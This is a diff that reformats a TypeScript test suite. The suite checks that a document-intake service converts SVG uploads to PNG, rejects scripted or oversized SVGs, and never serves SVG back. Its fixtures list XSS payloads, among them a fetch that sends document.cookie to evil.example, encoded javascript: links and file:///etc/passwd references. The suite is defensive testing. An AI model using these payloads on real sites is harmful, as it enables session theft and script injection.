@@ -41,17 +41,22 @@ afterAll(async () => {
 });
 
 const SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
-const doc = (inner: string) => `<svg ${SVG_NS} width="240" height="80"><rect width="240" height="80" fill="#eeeeee"/><text x="10" y="40">KARTU KELUARGA</text>${inner}</svg>`;
+const doc = (inner: string) =>
+  `<svg ${SVG_NS} width="240" height="80"><rect width="240" height="80" fill="#eeeeee"/><text x="10" y="40">KARTU KELUARGA</text>${inner}</svg>`;
 
 /** The payloads the outside probe got past the old check, and the one the old check did stop. */
 const ACTIVE: Record<string, string> = {
   'onload handler': `<svg ${SVG_NS} width="240" height="80" onload="alert(document.domain)"><text x="10" y="40">KK</text></svg>`,
   'nested <svg/onload>-style handler': doc(`<svg onload="fetch('//evil.example/'+document.cookie)" width="10" height="10"/>`),
-  'entity-encoded javascript:': doc(`<a href="&#106;avascript:alert(1)"><text x="10" y="70">klik</text></a><a xlink:href="&#x6A;&#x61;vascript&#58;alert(2)"><rect width="5" height="5"/></a>`),
+  'entity-encoded javascript:': doc(
+    `<a href="&#106;avascript:alert(1)"><text x="10" y="70">klik</text></a><a xlink:href="&#x6A;&#x61;vascript&#58;alert(2)"><rect width="5" height="5"/></a>`,
+  ),
   'foreignObject with iframe srcdoc': doc(
     `<foreignObject width="200" height="60"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe></foreignObject>`,
   ),
-  'animate setting href': doc(`<a><animate attributeName="href" values="javascript:alert(1)"/><text x="10" y="70">lanjut</text></a><set attributeName="onmouseover" to="alert(1)"/>`),
+  'animate setting href': doc(
+    `<a><animate attributeName="href" values="javascript:alert(1)"/><text x="10" y="70">lanjut</text></a><set attributeName="onmouseover" to="alert(1)"/>`,
+  ),
   'script element': `<svg ${SVG_NS} width="240" height="80"><script>alert(1)</script><text x="10" y="40">KK</text></svg>`,
 };
 
@@ -72,7 +77,13 @@ const intake = (db: ReturnType<typeof testDb>, client: Awaited<ReturnType<typeof
 
 const svgAttachment = (svg: string, filename = 'kk.svg') => {
   const bytes = Buffer.from(svg, 'utf8');
-  return { docType: 'kk' as const, filename, mime: 'image/svg+xml' as const, contentBase64: bytes.toString('base64'), sha256: createHash('sha256').update(bytes).digest('hex') };
+  return {
+    docType: 'kk' as const,
+    filename,
+    mime: 'image/svg+xml' as const,
+    contentBase64: bytes.toString('base64'),
+    sha256: createHash('sha256').update(bytes).digest('hex'),
+  };
 };
 
 async function storedFor(db: ReturnType<typeof testDb>, ticket: string) {
@@ -105,14 +116,23 @@ describe('SVG attachments are stored as the PNG they render to', () => {
 
     // The channel learns what happened to its file, and the audit trail keeps the original's hash.
     expect(res.body.attachments).toEqual([
-      { filename: 'kk.png', sha256: stored.sha256, size: stored.content.length, convertedFrom: 'image/svg+xml', originalFilename: 'kk.svg', originalSha256: original.sha256 },
+      {
+        filename: 'kk.png',
+        sha256: stored.sha256,
+        size: stored.content.length,
+        convertedFrom: 'image/svg+xml',
+        originalFilename: 'kk.svg',
+        originalSha256: original.sha256,
+      },
     ]);
     const [ev] = await db
       .select({ payload: auditEvents.payload })
       .from(auditEvents)
       .where(and(eq(auditEvents.stream, unitStream(sub.unitId)), eq(auditEvents.entityId, sub.id), eq(auditEvents.action, 'submission.received')));
     expect(ev.payload).toMatchObject({
-      converted: [{ mime: 'image/svg+xml', filename: 'kk.svg', sha256: original.sha256, size: Buffer.byteLength(svg), to: 'image/png', storedSha256: stored.sha256 }],
+      converted: [
+        { mime: 'image/svg+xml', filename: 'kk.svg', sha256: original.sha256, size: Buffer.byteLength(svg), to: 'image/png', storedSha256: stored.sha256 },
+      ],
     });
   });
 
@@ -123,7 +143,9 @@ describe('SVG attachments are stored as the PNG they render to', () => {
     for (const svg of [`<svg ${SVG_NS}><svg/onload=alert(1)></svg>`, `<svg ${SVG_NS} width="100000" height="100000"><rect width="10" height="10"/></svg>`]) {
       const res = await intake(db, client, submissionBody({ attachments: [svgAttachment(svg)] }));
       expect(res.status).toBe(400);
-      expect(res.body).toMatchObject({ error: { code: 'VALIDATION_FAILED', fields: { 'attachments.0.contentBase64': expect.stringContaining('image/svg+xml') } } });
+      expect(res.body).toMatchObject({
+        error: { code: 'VALIDATION_FAILED', fields: { 'attachments.0.contentBase64': expect.stringContaining('image/svg+xml') } },
+      });
     }
     expect(await db.select().from(submissions).where(eq(submissions.unitId, unit.unitId))).toHaveLength(0);
   });
@@ -137,7 +159,9 @@ describe('SVG attachments are stored as the PNG they render to', () => {
     const external = [
       doc(`<image href="${origin}/image" width="50" height="50"/><image xlink:href="${origin}/xlink" width="50" height="50"/>`),
       doc(`<image href="file:///etc/passwd" width="50" height="50"/><use href="${origin}/use.svg#a"/>`),
-      doc(`<style>@import url(${origin}/import.css); rect { fill: url(${origin}/fill.svg#p) }</style><filter id="f"><feImage href="${origin}/feimage"/></filter><rect width="9" height="9" filter="url(#f)"/>`),
+      doc(
+        `<style>@import url(${origin}/import.css); rect { fill: url(${origin}/fill.svg#p) }</style><filter id="f"><feImage href="${origin}/feimage"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
+      ),
       doc(`<style>@font-face { font-family: x; src: url(${origin}/font.woff) }</style><text font-family="x" y="70">a</text>`),
       `<?xml version="1.0"?><?xml-stylesheet href="${origin}/pi.css" type="text/css"?>${doc('')}`,
     ];
@@ -164,15 +188,32 @@ describe('the attachment route never serves image/svg+xml', () => {
     const legacy = await makeSubmission(db, unit.unitId);
     const [scripted] = await db
       .insert(attachments)
-      .values({ submissionId: legacy.id, docType: 'akta', filename: 'akta.svg', mime: 'image/svg+xml', size: 1, sha256: 'x', content: Buffer.from(ACTIVE['onload handler']) })
+      .values({
+        submissionId: legacy.id,
+        docType: 'akta',
+        filename: 'akta.svg',
+        mime: 'image/svg+xml',
+        size: 1,
+        sha256: 'x',
+        content: Buffer.from(ACTIVE['onload handler']),
+      })
       .returning({ id: attachments.id });
     const [broken] = await db
       .insert(attachments)
-      .values({ submissionId: legacy.id, docType: 'other', filename: 'x.svg', mime: 'image/svg+xml', size: 1, sha256: 'x', content: Buffer.from('<svg/onload=alert(1)>') })
+      .values({
+        submissionId: legacy.id,
+        docType: 'other',
+        filename: 'x.svg',
+        mime: 'image/svg+xml',
+        size: 1,
+        sha256: 'x',
+        content: Buffer.from('<svg/onload=alert(1)>'),
+      })
       .returning({ id: attachments.id });
 
     const token = await new Browser().signIn(unit.officer.email, TEST_PASSWORD);
-    const open = (id: string) => attachmentGET(request(`/api/attachments/${id}`, { token, headers: { 'sec-fetch-site': 'same-origin' } }), { params: Promise.resolve({ id }) });
+    const open = (id: string) =>
+      attachmentGET(request(`/api/attachments/${id}`, { token, headers: { 'sec-fetch-site': 'same-origin' } }), { params: Promise.resolve({ id }) });
 
     const converted = await open(docs[0].id);
     expect(converted.status).toBe(200);
